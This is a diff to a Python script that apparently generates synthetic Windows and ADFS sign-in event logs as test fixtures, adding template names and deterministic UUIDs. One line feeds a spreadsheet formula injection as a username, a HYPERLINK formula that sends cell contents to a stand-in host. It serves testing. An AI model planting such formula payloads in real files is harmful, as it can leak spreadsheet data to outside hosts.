@@ -71,8 +71,8 @@ def system(eventdata):
     ])
     return Element('Event', [('xmlns', NS)], [s, eventdata])
 
-MODERN = Template(system(Sub(17, BINXML)))
-CLASSIC = Template(system(Element('EventData', children=[
+MODERN = Template('system-binxml', system(Sub(17, BINXML)))
+CLASSIC = Template('system-classic', system(Element('EventData', children=[
     Element('Data', children=[Sub(17, STRING_ARRAY, dependency=True)])])))
 
 F4625 = [('SubjectUserSid', SID), ('SubjectUserName', STRING), ('SubjectDomainName', STRING),
@@ -86,12 +86,12 @@ F4624 = [('SubjectUserSid', SID), ('SubjectUserName', STRING), ('TargetUserName'
          ('IpAddress', STRING)]
 
 
-def named_template(fields):
-    return Template(Element('EventData', children=[
+def named_template(name, fields):
+    return Template(name, Element('EventData', children=[
         Element('Data', [('Name', n)], [Sub(i, t)]) for i, (n, t) in enumerate(fields)]))
 
 
-T4625, T4624 = named_template(F4625), named_template(F4624)
+T4625, T4624 = named_template('4625', F4625), named_template('4624', F4624)
 
 
 def filetime(t):
@@ -297,7 +297,8 @@ def build(out):
     # a user name typed to be run as a spreadsheet formula
     farm.attempt_2016(a2, BASE + 135 * minute, '=HYPERLINK("http://x.example/?"&A1)@contoso.com', '203.0.113.66')
     # a success after the spray (412): not an attempt
-    a1.adfs(BASE + 140 * minute, 412, [str(uuid.uuid4()), str(uuid.uuid4()), USERNAME_TOKEN,
+    a1.adfs(BASE + 140 * minute, 412, [str(uuid.uuid5(uuid.NAMESPACE_DNS, 'instance-412')),
+                                       str(uuid.uuid5(uuid.NAMESPACE_DNS, 'activity-412')), USERNAME_TOKEN,
                                        'urn:federation:MicrosoftOnline'], failure=False)
 
     old = farm.log('ADFS-OLD.fabrikam.fr', 'fr')
